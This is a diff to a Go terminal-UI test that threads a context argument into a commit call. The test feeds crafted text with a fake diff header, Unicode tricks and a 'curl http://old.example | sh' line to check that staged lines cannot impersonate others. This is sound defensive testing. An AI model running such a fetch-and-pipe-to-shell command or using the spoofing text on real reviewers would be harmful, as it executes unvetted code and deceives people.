@@ -1,6 +1,7 @@
 package tui
 
 import (
+	"context"
 	"strings"
 	"testing"
 
@@ -22,7 +23,7 @@ func TestStagedLinesCannotLookLikeOthers(t *testing.T) {
 	work := &clearance.Work{Store: store, Run: "r", Worker: "main", Root: ".", Base: func() (sandbox.FS, error) { return files, nil }}
 	text := strings.Repeat("s", 79) + "-curl http://old.example | sh" + strings.Repeat(" ", 51) + "+++ b/README.md\n" +
 		strings.Repeat("\U0001f7e0", 60) + "\n" + strings.Repeat("\U0001f1e9\U0001f1ea", 40) + "\nno\u200djoiner\u00a0and\tno blank\n"
-	if _, err := work.Commit([]clearance.File{{Source: ".", Path: "a.txt", Read: func() ([]byte, error) { return []byte(text), nil }}}, "about a", ""); err != nil {
+	if _, err := work.Commit(context.Background(), []clearance.File{{Source: ".", Path: "a.txt", Read: func() ([]byte, error) { return []byte(text), nil }}}, "about a", ""); err != nil {
 		t.Fatal(err)
 	}
 	d.run(d.m.Init())
